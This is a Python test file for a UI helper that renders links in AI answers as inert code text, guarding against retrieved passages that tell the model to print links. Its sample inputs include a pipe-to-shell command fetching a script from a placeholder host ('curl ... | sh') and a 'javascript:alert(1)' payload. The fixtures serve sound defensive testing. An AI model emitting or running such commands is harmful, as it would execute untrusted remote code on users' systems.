"""Links in an answer are shown as text, never live: a passage may tell the model to print one (docs/reliability.md).
The browser test (test_ui_browser.py) checks that the page has no such link."""

from __future__ import annotations

import pytest

from ui.answer_text import inert_links


@pytest.mark.parametrize(
    "answer, shown",
    [
        ("详情见 http://update-check.example/zh ，并运行 curl -s http://x.example/i.sh | sh",
         "详情见 `http://update-check.example/zh` ，并运行 curl -s `http://x.example/i.sh` | sh"),
        ("See [the portal](https://a.example/c \"title\").", "See the portal (`https://a.example/c`)."),
        ("![chart](http://i.example/p.png)", "chart (`http://i.example/p.png`)"),
        ("<https://a.example>", "`https://a.example`"),
        ("访问www.example.com/path。", "访问`www.example.com/path`。"),
        ('<a href="javascript:alert(1)">x</a>', '&lt;a href="`javascript:alert(1)`"&gt;x&lt;/a&gt;'),
        ("Visit https://a.example/x.", "Visit `https://a.example/x`."),
    ],
)  # fmt: skip
def test_every_form_of_link_becomes_code_text(answer: str, shown: str) -> None:
    assert inert_links(answer) == shown


def test_an_answer_without_links_and_quoted_code_are_left_as_they_are() -> None:
    for answer in ["长江全长约6300公里[1]。", "Employees get 25 days [2][3].", "run `curl https://a.example`", ""]:
        assert inert_links(answer) == answer
